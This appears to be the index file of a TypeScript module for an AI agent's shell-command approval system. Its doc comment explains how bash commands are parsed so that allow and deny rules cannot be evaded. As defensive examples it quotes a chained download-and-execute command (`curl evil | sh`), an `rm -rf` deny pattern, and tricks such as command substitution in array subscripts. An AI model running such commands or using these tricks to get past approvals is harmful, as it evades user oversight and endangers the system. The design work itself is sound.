/**
 * Shell commands as approval rules see them (SECURITY.md, "model ↔ approvals"): a bash command is
 * parsed with tree-sitter-bash into the simple commands that will actually run, so a rule like
 * `pip install *` cannot be satisfied by `pip install x; curl evil | sh`. Whatever cannot be
 * classified safely (command substitution, eval, a program that is not a literal word, writes
 * to files, parse errors, constructs this module does not know) makes the analysis `opaque`, and
 * the caller asks the user. The analysis assumes the command runs under bash (`bash -c`).
 *
 * Rule patterns are plain text, not shell syntax: the first word is the program, the rest is a
 * glob over the remaining words joined by single spaces, where `*` matches any text (spaces
 * included), `\*` is a literal star and nothing else is special. A trailing ` *` also matches
 * nothing, so `pip install *` matches `pip install`. A pattern whose first word contains `*`
 * (`*rm -rf*`) is a glob over the whole command. Deny rules are a best-effort backstop (`rm -r -f`
 * and `find -exec rm` do not spell `rm -rf`); allow rules are where the guarantees are.
 *
 * Decisions worth knowing:
 * - Every simple command needs its own allow rule: in `python train.py 2>&1 | tee log.txt`,
 *   `tee log.txt` (which writes a file) is a command like any other; so are `cd x` and `[ -f x ]`.
 * - `sudo`/`doas` and a wrapper run by path (`/usr/bin/env`, `./timeout`) are commands of their
 *   own *and* the command they run is extracted too: both must be allowed.
 * - Assigning a variable that changes what runs or where data goes (PATH, LD_*, GIT_*,
 *   PYTHON*, *_PROXY, HOME…) before a command, on its own or through `env`/`export` is opaque;
 *   other assignments (`CUDA_VISIBLE_DEVICES=0 python train.py`) are looked through.
 * - Arithmetic (`$((…))`, `((…))`, `let`, `[[ x -eq y ]]`, array subscripts, `declare -i`),
 *   indirect and substring expansions are opaque: bash evaluates a variable's value there, and a
 *   value such as `a[$(cmd)]` runs a command.
 * - A shell reading its script from a pipe is opaque; from a literal heredoc or here-string, or
 *   `bash -c 'literal'`, the script is parsed. `sh -c` scripts may run under dash and must
 *   avoid `&>` and `|&`.
 * - tree-sitter and bash must read the text alike: line continuations inside words, control
 *   characters, text the parser skipped and heredoc delimiters bash would read differently are
 *   opaque.
 *
 * This file is the public face; the analysis lives in:
 * - shell-types.ts: the types, and the state of one walk over a parsed command;
 * - shell-parser.ts: loading web-tree-sitter and the grammar, parsing a command or script;
 * - shell-walk.ts: statements, simple commands, declarations and tests;
 * - shell-words.ts: words, quotes and expansions;
 * - shell-variables.ts: assignments and builtins that take variable names;
 * - shell-redirects.ts: redirections, here-strings and heredocs;
 * - shell-wrappers.ts: wrappers (env, timeout, sudo…) and builtins, up to the program that runs;
 * - shell-nested.ts: nested shells (`bash -c`, a script on standard input) and `eval`;
 * - shell-rules.ts: rule patterns and matching, `resolveProgramOnPath`;
 * - shell-always-allow.ts: the "always allow" scope offered for an approved command.
 */

export { alwaysAllowScope } from './shell-always-allow.js';
export { loadShellParser } from './shell-parser.js';
export { commandMatches, commandMayMatch, evaluateCommandRules, resolveProgramOnPath } from './shell-rules.js';
export type { CommandRule, MatchOptions, ShellAnalysis, ShellParser, SimpleCommand } from './shell-types.js';
